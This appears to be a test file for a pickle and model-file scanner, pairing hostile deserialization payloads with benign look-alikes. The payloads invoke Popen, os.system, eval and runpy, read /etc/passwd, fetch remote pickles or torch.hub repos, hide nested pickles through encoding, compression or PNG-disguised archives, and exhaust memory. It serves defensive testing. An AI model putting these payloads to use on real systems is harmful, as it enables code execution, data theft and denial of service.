"""Pickles: callables that call, bytes made at load time, classes that open files, what fills the memory."""

# one case a line reads as a table
from __future__ import annotations

import gzip
import lzma
import random
import zlib

from tests.metamorphic.models.siblings.common import EVIL, N, array, case, pickled, pk, zipped
from tests.metamorphic.models.writing import Do, Writer

# ---- 1 callables
pk(
    "1",
    "defaultdict_partial",
    Do(N("collections.defaultdict"), (Do(N("functools.partial"), (N("numpy.fromfile"), "/etc/passwd")),)),
    Do(N("collections.defaultdict"), (N("builtins.list"),)),
)
pk(
    "1",
    "ordereddict_map",
    Do(N("collections.OrderedDict"), (Do(N("builtins.map"), (N("numpy.load"), ["x.npy"])),)),
    Do(N("collections.OrderedDict"), ([("a", 1)],)),
)
pk(
    "1",
    "reduce_getattr",
    Do(N("functools.reduce"), (N("builtins.getattr"), ["__class__", "__base__"], N("collections.OrderedDict"))),
    Do(N("functools.partial"), (N("operator.mul"), 2)),
)
pk(
    "1",
    "methodcaller_unpickle",
    Do(Do(N("operator.methodcaller"), ("loads", EVIL)), (Do(N("builtins.__import__"), ("pickle",)),)),
    Do(N("operator.itemgetter"), (0,)),
)
pk(
    "1",
    "new_index_popen",
    Do(N("pandas.core.indexes.base._new_Index"), (N("subprocess.Popen"), {"args": "id"})),
    Do(
        N("pandas.core.indexes.base._new_Index"), (N("pandas.core.indexes.base.Index"), {"data": array(), "name": None})
    ),
)
pk(
    "1",
    "new_index_module_fn",
    Do(
        N("pandas.core.indexes.base._new_Index"),
        (N("pandas.io.pickle.read_pickle"), {"filepath_or_buffer": "http://x/y.pkl"}),
    ),
    Do(
        N("pandas.core.indexes.base._new_Index"),
        (N("pandas.core.indexes.range.RangeIndex"), {"name": None, "start": 0, "stop": 3, "step": 1}),
    ),
)
pk(
    "1",
    "ft_popen",
    Do(
        N("sklearn.preprocessing._function_transformer.FunctionTransformer"),
        (),
        "new",
        state={"func": N("os.popen"), "validate": False},
    ),
    Do(
        N("sklearn.preprocessing._function_transformer.FunctionTransformer"),
        (),
        "new",
        state={"func": N("numpy.log1p"), "validate": False},
    ),
)
pk(
    "1",
    "ft_np_load",
    Do(
        N("sklearn.preprocessing._function_transformer.FunctionTransformer"),
        (),
        "new",
        state={
            "func": Do(
                N("functools.partial"), (N("numpy.load"),), state=(N("numpy.load"), (), {"allow_pickle": True}, None)
            ),
            "validate": False,
        },
    ),
    Do(
        N("sklearn.preprocessing._function_transformer.FunctionTransformer"),
        (),
        "new",
        state={"func": N("numpy.sqrt"), "validate": False},
    ),
)
pk(
    "1",
    "scorer_eval",
    Do(
        N("sklearn.metrics._scorer._Scorer"),
        (),
        "new",
        state={"_score_func": N("pandas.core.computation.eval.eval"), "_sign": 1, "_kwargs": {}},
    ),
    Do(
        N("sklearn.metrics._scorer._Scorer"),
        (),
        "new",
        state={
            "_score_func": N("sklearn.metrics._classification.accuracy_score"),
            "_sign": 1,
            "_kwargs": {},
            "_response_method": "predict",
        },
    ),
)
pk("1", "filehandler", Do(N("logging.FileHandler"), ("/tmp/x",)), Do(N("logging.getLogger"), ("torch",)))
pk(
    "1",
    "set_obj_state_class",
    Do(N("torch._utils._set_obj_state"), (N("torch.Tensor"), ({"__reduce_ex__": N("torch.load")}, None))),
    Do(N("collections.OrderedDict"), ([("step", 1)],)),
)
pk(
    "1",
    "sys_modules_setitem",
    b"\x80\x02csys\nmodules\nX\x05\x00\x00\x00numpyccollections\nOrderedDict\ns.",
    Do(N("collections.OrderedDict"), (), items=(("numpy", 1),)),
)
pk(
    "1",
    "build_on_class_global",
    b"\x80\x02ccollections\nOrderedDict\n}X\x08\x00\x00\x00__init__cbuiltins\nprint\nsb.",
    Do(N("collections.OrderedDict"), (), state={"x": 1}),
)
pk(
    "1",
    "rebuild_from_type_v2_partial",
    Do(
        N("torch._tensor._rebuild_from_type_v2"),
        (Do(N("functools.partial"), (N("torch.hub.load"), "evil/repo")), N("torch.Tensor"), ("m",), {}),
    ),
    Do(N("collections.OrderedDict"), ()),
)
pk(
    "1",
    "stack_global_dotted",
    b"\x80\x04\x8c\x05numpy" + b"\x8c\x1b" + b"f2py.crackfortran.os.system" + b"\x93\x8c\x02id\x85R.",
    b"\x80\x04\x8c\x05numpy\x8c\x07float32\x93.",
)
pk(
    "1",
    "hydra_instantiate",
    Do(N("hydra._internal.instantiate._instantiate2.instantiate"), ({"_target_": "os.system"},)),
    Do(N("collections.OrderedDict"), ([("_target", "os")],)),
)
pk(
    "1",
    "reconstructor_memmap",
    Do(N("copyreg._reconstructor"), (N("numpy.memmap"), N("numpy.ndarray"), "x")),
    Do(
        N("copyreg._reconstructor"),
        (N("sklearn.linear_model._base.LinearRegression"), N("builtins.object"), None),
        state={"coef_": 1},
    ),
)
pk(
    "1",
    "class_arg_file_np",
    Do(N("scipy.io._netcdf.netcdf_file"), ("/tmp/x", "w")),
    Do(N("scipy.sparse._csr.csr_matrix"), (), "new", state={"_shape": (1, 1), "data": array()}),
)
pk(
    "1",
    "getattr_on_listed_class",
    Do(
        Do(N("builtins.getattr"), (N("pandas.core.frame.DataFrame"), "from_records")),
        (Do(N("builtins.getattr"), (N("pandas.core.frame.DataFrame"), "query")),),
    ),
    Do(N("collections.Counter"), ({"a": 1},)),
)
pk(
    "1",
    "sorted_key_call",
    Do(
        N("functools.partial"),
        (N("builtins.sorted"),),
        state=(N("builtins.sorted"), (["a"],), {"key": N("importlib.import_module")}, None),
    ),
    Do(N("functools.partial"), (N("numpy.sort"),), state=(N("numpy.sort"), (), {"axis": 0}, None)),
)
pk(
    "1",
    "vectorize_exec",
    Do(N("numpy.lib._function_base_impl.vectorize"), (), "new", state={"pyfunc": N("runpy.run_path"), "cache": False}),
    array(),
)
pk(
    "1",
    "inst_opcode_lower",
    b"(S'/tmp/x'\nS'w'\nitempfile\nmkstemp\n.",
    pickled(Do(N("pathlib.PurePosixPath"), ("a",))),
)
pk(
    "1",
    "path_method",
    Do(Do(N("builtins.getattr"), (Do(N("pathlib.PosixPath"), ("/tmp/x",)), "unlink")), ()),
    Do(N("pathlib.PosixPath"), ("a", "b")),
)

# ---- 2 bytes at load
pk(
    "2",
    "bytearray_join",
    Do(N("torch.storage._load_from_bytes"), (Do(N("builtins.bytes"), (Do(N("builtins.bytearray"), (list(EVIL),)),)),)),
    Do(N("builtins.bytearray"), (b"abc",)),
)
pk(
    "2",
    "codecs_latin1",
    Do(N("torch.storage._load_from_bytes"), (Do(N("_codecs.encode"), (EVIL.decode("latin1"), "latin1")),)),
    Do(N("_codecs.encode"), ("abc\u00ff", "latin1")),
)
pk(
    "2",
    "operator_concat",
    Do(N("torch.storage._load_from_bytes"), (Do(N("operator.concat"), (EVIL[:5], EVIL[5:])),)),
    {"a": EVIL[:5].hex()},
)
pk(
    "2",
    "codecs_zip",
    Do(N("torch.storage._load_from_bytes"), (Do(N("_codecs.decode"), (zlib.compress(EVIL), "zip")),)),
    Do(N("_codecs.encode"), ("abc", "utf-8")),
)
pk(
    "2",
    "ndarray_tobytes",
    Do(N("torch.storage._load_from_bytes"), (Do(Do(N("builtins.getattr"), (array(), "tobytes")), ()),)),
    array(),
)
pk("2", "bytesio_npload", Do(N("numpy.load"), (Do(N("_io.BytesIO"), (EVIL,)),)), {"buffer": b"abc"})
pk("2", "readonly_buffer_stream2", pickled({"a": 1})[:-1] + b"." + EVIL, pickled({"a": 1}))
pk("2", "hex_unhexlify", Do(N("pickle.loads"), (Do(N("binascii.unhexlify"), (EVIL.hex(),)),)), {"sha": EVIL.hex()[:8]})

# ---- 7 extension classes
for n, (path, args) in {
    "fileio": ("_io.FileIO", ("/tmp/x", "w")),
    "sqlite": ("sqlite3.Connection", ("/tmp/x",)),
    "h5file": ("h5py._hl.files.File", ("/tmp/x", "w")),
    "memmap": ("numpy.memmap", ("/tmp/x", "u1", "w+", 0, (1,))),
    "shm": ("multiprocessing.shared_memory.SharedMemory", ("x", True, 10)),
    "torchfile": ("torch._C.PyTorchFileWriter", ("/tmp/x",)),
    "xgbdm": ("xgboost.core.DMatrix", ("/etc/passwd?format=libsvm",)),
    "sp": ("sentencepiece.SentencePieceProcessor", ("/etc/passwd",)),
    "lgb": ("lightgbm.basic.Booster", (None, None, "/etc/passwd")),
}.items():
    pk("7", "new_" + n, Do(N(path), args, "new"), array())


# ---- 0
pk("0", "bytearray_huge", Do(N("builtins.bytearray"), (10**9,)), Do(N("builtins.bytearray"), (b"x",)))
pk("0", "list_count", Do(N("builtins.list"), (Do(N("itertools.count"), ()),)), Do(N("builtins.list"), ([1, 2],)))
pk("0", "numpy_zeros_huge", Do(N("numpy.zeros"), ((10**6, 10**6),)), Do(N("numpy.dtype"), ("f4", False, True)))
pk(
    "0",
    "cycle_deque",
    Do(N("collections.deque"), (Do(N("itertools.cycle"), ([1],)),)),
    Do(N("collections.deque"), ([1], 3)),
)
pk(
    "0",
    "set_range_huge",
    Do(N("builtins.set"), (Do(N("builtins.range"), (0, 10**9)),)),
    Do(N("builtins.set"), ([1, 2],)),
)
pk(
    "0",
    "slot_state_pairs",
    b"\x80\x02csklearn.linear_model._base\nLinearRegression\n)\x81N"
    + Writer().value(Do(N("builtins.dict"), ([("predict", N("torch.hub.load"))],)))
    + b"\x86b.",
    Do(N("sklearn.linear_model._base.LinearRegression"), (), "new", state={"coef_": 1}),
)
case("0", "tflite_zeroed", {"m.tflite": b"\x1c\0\0\0TFL3" + b"\0" * 2000}, {"notes.txt": b"x"})
case(
    "0",
    "zip_behind_png",
    {"logo.png": zipped({"a.pkl": EVIL}, before=b"\x89PNG\r\n\x1a\n" + b"\0" * 500)},
    {"logo.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\0" * 17 + b"\0\0\0\0IEND\xaeB`\x82"},
)
case(
    "0",
    "gz_unknown",
    {"model.gz": gzip.compress(random.Random(1).randbytes(3000))},
    {"notes.txt.gz": gzip.compress(b"hello world, this is text\n" * 10)},
)
case("0", "xz_pickle_named_txt", {"notes.txt": lzma.compress(EVIL)}, {"notes.txt": b"hello\n"})
